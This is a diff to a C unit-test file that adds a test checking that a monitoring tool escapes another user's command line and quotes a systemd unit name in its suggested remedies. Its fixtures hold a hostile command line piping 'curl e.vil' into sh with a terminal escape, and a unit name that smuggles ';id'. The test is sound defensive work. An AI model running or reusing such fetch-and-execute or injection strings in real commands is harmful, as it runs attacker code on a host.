@@ -370,12 +370,42 @@ static void test_remedies(void **state)
 	bl_free(&b);
 }
 
+/* Another user's command line and a unit name from a cgroup are that user's text: the command
+ * line is shown escaped, never as a command for root to paste; the unit is quoted. */
+static void test_remedies_of_other_users(void **state)
+{
+	struct baseline b = {.nprocs = 2};
+	struct bl_change c = {BL_PROC, BL_GONE, HD_CRITICAL, .proc = NULL};
+	char *r;
+
+	b.procs = hd_xcalloc(2, sizeof(*b.procs));
+	b.procs[0] = mkproc("x", "/tmp/x", "mallory", 1001, 1, NULL, "x; curl e.vil|sh \033[2J");
+	b.procs[1] = mkproc("y", "/tmp/y", "mallory", 1001, 1, "a b;id.service", "y");
+	c.proc = &b.procs[0];
+
+	(void)state;
+	r = bl_change_remedy(&c, "default");
+	assert_null(strstr(r, "ran: x;"));
+	assert_non_null(strstr(r, "Start it again as user mallory, as it ran (its command line: "
+				  "[x; curl e.vil|sh \\x1b[2J])"));
+	free(r);
+	c.proc = &b.procs[1];
+	r = bl_change_remedy(&c, "default");
+	assert_non_null(strstr(r, "systemctl start 'a b;id.service'"));
+	free(r);
+	bl_free(&b);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-	    cmocka_unit_test(test_cgroup_unit),	    cmocka_unit_test(test_small_parsers),
-	    cmocka_unit_test(test_json_round_trip), cmocka_unit_test(test_json_damage),
-	    cmocka_unit_test(test_compare),	    cmocka_unit_test(test_remedies),
+	    cmocka_unit_test(test_cgroup_unit),
+	    cmocka_unit_test(test_small_parsers),
+	    cmocka_unit_test(test_json_round_trip),
+	    cmocka_unit_test(test_json_damage),
+	    cmocka_unit_test(test_compare),
+	    cmocka_unit_test(test_remedies),
+	    cmocka_unit_test(test_remedies_of_other_users),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
